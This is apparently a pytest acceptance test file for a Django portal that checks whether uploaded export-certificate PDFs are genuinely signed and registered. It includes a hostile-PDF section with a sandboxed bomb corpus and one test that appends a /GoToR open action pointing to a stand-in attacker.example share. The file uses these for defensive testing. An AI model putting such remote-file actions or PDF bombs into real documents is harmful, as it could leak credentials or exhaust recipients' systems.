"""Acceptance 3: an uploaded PDF is authentic only if our key signed it and the register has it."""

from __future__ import annotations

import dataclasses
import hashlib
import io
import tracemalloc

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from certificates import keys
from tests.security import hostile_pdfs
from tests.verification.factories import CertificateFactory
from tests.verification.helpers import revoke, supersede

pytestmark = pytest.mark.django_db

NUMBER, CODE = "EIC/2026/MUM/0000123", "K7PX2M9QRT4W"
REFUSED = "Not issued by this portal, or altered after issue"


def render_and_sign(number: str = NUMBER) -> bytes:
    from certificates.pdf import render_certificate
    from certificates.signing import sign_certificate_pdf
    from tests.certificates.samples import certificate as sample

    data = dataclasses.replace(sample(item_count=2), number=number, verification_code=CODE)
    return sign_certificate_pdf(
        render_certificate(data),
        agency_code="EIC",
        officer_name="Olivia Rao",
        designation="Certifying Officer",
        agency_name="Export Inspection Council",
        signed_at=timezone.now(),
    )


@pytest.fixture
def genuine_pdf(eic_signing_key, certificate) -> bytes:
    """Alice's certificate, signed by EIC's key and registered with its hash."""
    import hashlib

    signed = render_and_sign()
    certificate.sha256 = hashlib.sha256(signed).hexdigest()
    certificate.pdf.save("certificate.pdf", ContentFile(signed))
    return signed


@pytest.fixture
def rogue_pdf(settings, eic_signing_key, tmp_path) -> bytes:
    """The same certificate signed by a key from a root the portal does not trust."""
    settings.SIGNING_KEYS_DIR = tmp_path / "rogue"
    keys.clear_caches()
    keys.ensure_agency_key("EIC", "Export Inspection Council")
    signed = render_and_sign()
    settings.SIGNING_KEYS_DIR = eic_signing_key
    keys.clear_caches()
    return signed


def upload(client, data: bytes, name: str = "certificate.pdf", expected: str = ""):
    document = SimpleUploadedFile(name, data, content_type="application/pdf")
    fields = {"document": document, "expected_number": expected}
    return client.post(reverse("verification:document"), fields)


def test_the_upload_form_is_public_and_csrf_protected(client):
    html = client.get(reverse("verification:document")).content.decode()
    assert 'enctype="multipart/form-data"' in html
    assert "csrfmiddlewaretoken" in html


def test_the_genuine_pdf_is_authentic_and_unaltered(client, genuine_pdf):
    response = upload(client, genuine_pdf)
    html = response.content.decode()
    assert response.status_code == 200
    assert "Authentic and unaltered: certificate " in html
    assert f'<strong class="cert-number">{NUMBER}</strong>, status <strong>Valid</strong>' in html
    assert "Alice Exports" in html


def test_an_unreadable_trust_root_answers_could_not_be_checked_not_500(
    client, genuine_pdf, monkeypatch
):
    def unreadable():
        raise keys.SigningKeyError("SIGNING_TRUST_ROOTS: /run/secrets/ca.pem cannot be read")

    monkeypatch.setattr("verification.document_check.trust_roots", unreadable)
    response = upload(client, genuine_pdf)
    assert response.status_code == 422
    assert "Authentic and unaltered" not in response.content.decode()


def test_a_revoked_genuine_pdf_says_revoked_do_not_accept_in_its_heading(
    client, genuine_pdf, certificate, ada
):
    revoke(certificate, "Goods not of Indian origin", actor=ada)
    html = upload(client, genuine_pdf).content.decode()
    assert "<h2>REVOKED: do not accept</h2>" in html
    assert "<h2>Authentic and unaltered</h2>" not in html
    assert "status <strong>Revoked</strong>" in html
    assert "Goods not of Indian origin" in html


def test_a_superseded_genuine_pdf_says_superseded_do_not_accept_in_its_heading(
    client, genuine_pdf, certificate
):
    replacement = CertificateFactory(
        application__office=certificate.office, sequence=124, verification_code="Z9Y8X7W6V5U4"
    )
    supersede(certificate, by=replacement)
    html = upload(client, genuine_pdf).content.decode()
    assert "<h2>SUPERSEDED: do not accept</h2>" in html
    assert "<h2>Authentic and unaltered</h2>" not in html


def test_the_check_shows_the_files_sha256(client, genuine_pdf):
    html = upload(client, genuine_pdf).content.decode()
    assert f'<code class="sha256">{hashlib.sha256(genuine_pdf).hexdigest()}</code>' in html


def test_a_genuine_pdf_of_another_certificate_than_expected_is_flagged(client, genuine_pdf):
    html = upload(client, genuine_pdf, expected="eic/2026/mum/0000999").content.decode()
    assert "A different certificate: do not accept it for EIC/2026/MUM/0000999" in html
    assert "<h2>Authentic and unaltered</h2>" not in html


def test_the_expected_number_typed_as_people_do_matches(client, genuine_pdf):
    html = upload(client, genuine_pdf, expected=" eic/2026/mum/0000123 ").content.decode()
    assert "<h2>Authentic and unaltered</h2>" in html
    assert "A different certificate" not in html


def test_one_changed_byte_is_refused_as_an_invalid_signature(client, genuine_pdf):
    altered = bytearray(genuine_pdf)
    position = genuine_pdf.index(b"stream") + 40
    altered[position] ^= 0x01
    html = upload(client, bytes(altered)).content.decode()
    assert REFUSED in html
    assert "it was changed after signing" in html


def test_a_pdf_signed_by_another_key_is_refused_as_unknown_key(client, genuine_pdf, rogue_pdf):
    html = upload(client, rogue_pdf).content.decode()
    assert REFUSED in html
    assert "not by a key of this portal" in html


def test_an_unsigned_pdf_is_refused_as_unsigned(client, eic_signing_key):
    from certificates.pdf import render_certificate
    from tests.certificates.samples import certificate as sample

    html = upload(client, render_certificate(sample(item_count=1))).content.decode()
    assert REFUSED in html
    assert "carries no digital signature" in html


def test_a_file_that_is_not_a_pdf_is_refused(client, eic_signing_key):
    html = upload(client, b"PK\x03\x04 a zip pretending", name="certificate.pdf").content.decode()
    assert REFUSED in html
    assert "is not a PDF document" in html


def test_our_signature_on_a_file_not_in_the_register_is_refused(
    client, eic_signing_key, certificate
):
    html = upload(client, render_and_sign("EIC/2026/MUM/0009999")).content.decode()
    assert REFUSED in html
    assert "no certificate in the register is this exact file" in html


def test_a_file_over_the_limit_is_refused_before_it_is_checked(client, settings):
    settings.UPLOAD_MAX_BYTES = 1024
    response = upload(client, b"%PDF-1.7\n" + b"0" * 2048)
    assert response.status_code == 400
    assert "The file must be at most 1.0\xa0KB" in response.content.decode()


def test_no_file_is_asked_for(client):
    response = client.post(reverse("verification:document"), {})
    assert response.status_code == 400
    assert "Choose the certificate PDF to check" in response.content.decode()


# ---------------------------------------------------------------------------------------------
# Hostile PDFs (issue 18, finding 4): 4xx within 2 s each, the check held to its budget
# ---------------------------------------------------------------------------------------------

MEMORY_BUDGET = 256 * 1024 * 1024  # UPLOAD_CHECK_MEMORY_MB


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    return hostile_pdfs.write_corpus(tmp_path_factory.mktemp("hostile"))


@pytest.fixture
def warm_sandbox(client, eic_signing_key):
    """The first check of a process starts the forkserver (once): not part of any timing."""
    upload(client, render_and_sign())


UNPROCESSABLE = {
    "unchecked": "could not be checked",
    "unsafe": "an action that opens another file or sends data out",
}


@pytest.mark.parametrize("case", sorted(hostile_pdfs.HOSTILE))
def test_a_hostile_pdf_gets_422_from_a_child_limited_to_2_seconds_of_cpu(
    client, case, hostile, warm_sandbox
):
    # Bounded by the child's limits, not timed here: a wall clock fails on a busy machine.
    kind, path = hostile[case]
    with hostile_pdfs.recorded_sandbox_runs() as runs:
        response = upload(client, path.read_bytes())

    assert response.status_code == 422
    html = response.content.decode()
    assert REFUSED in html
    assert UNPROCESSABLE[kind] in html
    (ran,) = runs
    assert ran.address_space_limit == ran.inherited_bytes + MEMORY_BUDGET
    assert ran.peak_rss_bytes < ran.address_space_limit
    assert ran.cpu_limit <= 2


def test_the_300_mib_body_is_the_corpus_s_last_member(client):
    # Refused from its Content-Length (tests/security/test_request_body_limits.py has the rest).
    from tests.security.test_request_body_limits import EndlessBody, post_body

    body = EndlessBody(300 * 1024 * 1024)
    response = post_body(client, reverse("verification:document"), body)
    assert response.status_code == 413
    assert body.read_so_far == 0  # refused unread: no time spent on it


def test_the_fields_bomb_costs_the_web_process_little_memory(client, hostile, warm_sandbox):
    # The parent holds the upload and hands it over; only the child (limited) parses it.
    _, path = hostile["fields bomb (1.7 million /Fields entries)"]
    data = path.read_bytes()
    tracemalloc.start()
    try:
        response = upload(client, data)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert response.status_code == 422
    assert peak < 6 * len(data), peak  # the upload and its copies (form, pickle), no parse


def test_a_check_that_exhausts_its_budget_gets_422_not_500(client, eic_signing_key, monkeypatch):
    from tests.security import sandbox_targets
    from verification import document_check

    monkeypatch.setattr(document_check, "certificate_check", sandbox_targets.hoard)
    response = upload(client, render_and_sign())
    assert response.status_code == 422
    assert "could not be checked" in response.content.decode()


def test_a_genuine_certificate_with_a_go_to_remote_appended_is_refused_as_unsafe(
    client, genuine_pdf
):
    # An incremental update after signing that adds an action leaving the document.
    from pypdf import PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter(io.BytesIO(genuine_pdf), incremental=True)
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/GoToR"),
            NameObject("/F"): TextStringObject("\\\\attacker.example\\share\\x.pdf"),
        }
    )
    out = io.BytesIO()
    writer.write(out)
    response = upload(client, out.getvalue())
    assert response.status_code == 422
    assert "opens another file" in response.content.decode()


BUSY = "Other files are being checked right now, so yours was not checked."


def test_an_upload_while_the_processs_check_slot_is_taken_is_asked_to_retry_not_made_to_wait(
    client, genuine_pdf
):
    """Anyone may upload, and a check holds its web thread while its child works: while
    CHECKS_AT_ONCE checks run in a process (a hostile file chewing its budget, say), another
    upload, of a PDF or of a PDF to the credential check, is answered at once with 503 and
    Retry-After, unchecked; once the slot is free the same file is checked."""
    from verification import document_check

    assert document_check._slots.acquire(blocking=False)
    try:
        busy = upload(client, genuine_pdf)
        busy_credential = client.post(
            reverse("verification:credential"),
            {"upload": SimpleUploadedFile("c.pdf", genuine_pdf, content_type="application/pdf")},
        )
    finally:
        document_check._slots.release()

    assert busy.status_code == 503
    assert busy["Retry-After"] == "10"
    assert BUSY in busy.content.decode()
    assert "Authentic and unaltered" not in busy.content.decode()
    assert busy_credential.status_code == 503
    assert BUSY in busy_credential.content.decode()
    assert upload(client, genuine_pdf).status_code == 200


def test_a_check_that_ran_out_of_its_budget_gives_its_slot_back(client, genuine_pdf, monkeypatch):
    from core import sandbox

    def over_budget(*args, **kwargs):
        raise sandbox.Unchecked("cpu")

    monkeypatch.setattr(sandbox, "run", over_budget)
    assert upload(client, genuine_pdf).status_code == 422
    monkeypatch.undo()

    assert upload(client, genuine_pdf).status_code == 200


def test_an_upload_that_overlaps_an_ordinary_check_waits_for_the_slot_and_is_answered(
    client, genuine_pdf
):
    import threading

    from verification import document_check

    assert document_check._slots.acquire(blocking=False)
    threading.Timer(0.3, document_check._slots.release).start()  # the other check ends

    response = upload(client, genuine_pdf)

    assert response.status_code == 200
    assert "Authentic and unaltered" in response.content.decode()
